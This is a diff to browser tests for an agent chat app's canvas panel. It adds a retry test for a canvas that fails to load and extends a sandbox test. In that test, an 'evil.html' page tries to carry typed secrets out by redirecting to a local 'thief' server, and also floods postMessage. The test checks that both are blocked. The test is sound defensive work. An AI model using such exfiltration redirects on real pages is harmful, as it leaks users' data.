@@ -139,7 +139,7 @@ browserTest("A page of the canvas beside the chat", { config: CANVAS }, {
     await chat.answered(/The kitchen is dark\.$/);
     await panel(page).getByText("The agent has answered.").waitFor();
     assert.deepEqual(await inside(page).locator("#log li").allInnerTexts(), ["pending", "working", "done"]);
-    assert.match(await chat.questions.last().innerText(), /On the canvas: *refresh\s+text\s+kitchen too$/u);
+    assert.match(await chat.questions.last().innerText(), /On the canvas:\s*refresh\s+text\s+kitchen too$/u);
     await clean(page, "an answered action");
   },
   "an address is asked about before it is opened, and nothing else than the web is": async ({ gateway }) => {
@@ -179,6 +179,12 @@ browserTest("A page of the canvas beside the chat", { config: CANVAS }, {
 browserTest("A page of the canvas reaches nothing around it", { config: CANVAS }, {
   "neither the page, nor its storage, nor the gateway's socket, nor another site": async ({ gateway }) => {
     const port = new URL(gateway.httpUrl).port;
+    const stolen: string[] = [];
+    const thief = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
+      stolen.push(request.url);
+      return new Response("thanks");
+    });
+    await using _thief = { [Symbol.asyncDispose]: () => thief.shutdown() };
     await write(
       gateway,
       "evil.html",
@@ -198,6 +204,8 @@ browserTest("A page of the canvas reaches nothing around it", { config: CANVAS }
         socket.onopen = () => out.textContent += 'socket reached\\n';
         socket.onerror = () => out.textContent += 'socket refused\\n';
       } catch (error) { out.textContent += 'socket refused\\n'; }
+      // Where it could carry away what was typed into it: its own address.
+      setTimeout(() => location.href = 'http://127.0.0.1:${thief.addr.port}/?typed=secret', 1_000);
       for (let at = 0; at < 500; at++) parent.postMessage({ openclaw: 1, type: 'userAction', action: { name: 'flood' + at } }, '*');
       parent.postMessage({ openclaw: 1, type: 'hello', nonce: 'mine' }, '*');
       </script></body>`,
@@ -217,10 +225,12 @@ browserTest("A page of the canvas reaches nothing around it", { config: CANVAS }
     const { messages } = await agent.request("chat.history", { sessionKey: MAIN }) as { messages: { role: string }[] };
     const asked = messages.filter(({ role }) => role === "user").length;
     assert.ok(asked <= 12, `a flood starts few runs: ${asked}`);
+    await eventually("the way out to be refused", () => visitor.faults.some((fault) => /frame-src/u.test(fault)));
+    assert.deepEqual(stolen, []);
     visitor.faults.splice(
       0,
       visitor.faults.length,
-      ...visitor.faults.filter((fault) => !/connect-src|null/u.test(fault)),
+      ...visitor.faults.filter((fault) => !/frame-src|connect-src|null/u.test(fault)),
     );
   },
 });
@@ -284,6 +294,29 @@ browserTest("On a phone the canvas is a sheet", { config: CANVAS }, {
     await inside(page).getByText("All lights are off.").waitFor();
     await panel(page).getByRole("button", { name: "Close the canvas" }).tap();
     await chat.box.fill(slowly(2, 0));
+  },
+});
+
+browserTest("A canvas that does not load", { config: CANVAS }, {
+  "is tried once more by itself, then says so, and comes with the next try": async ({ gateway }) => {
+    await write(gateway, "report/index.html", REPORT);
+    await using agent = await gateway.connect();
+    await using visitor = await Visitor.come();
+    visitor.expected.push(/Failed to load resource|401/u);
+    const { page } = await ChatPage.signIn(visitor, gateway);
+    let refused = 0;
+    await page.route("**/__openclaw__/cap/**", (route) => {
+      refused++;
+      return route.fulfill({ status: 401, contentType: "application/json", body: "{}" });
+    });
+    await present(agent, { path: "report/index.html" });
+    await panel(page).getByText("The canvas did not load.").waitFor();
+    assert.equal(refused, 2);
+    await clean(page, "a canvas that did not load");
+    await snap(page, "canvas_failed");
+    await page.unroute("**/__openclaw__/cap/**");
+    await panel(page).getByRole("button", { name: "Try again" }).click();
+    await inside(page).getByText("All lights are off.").waitFor();
   },
 });
 
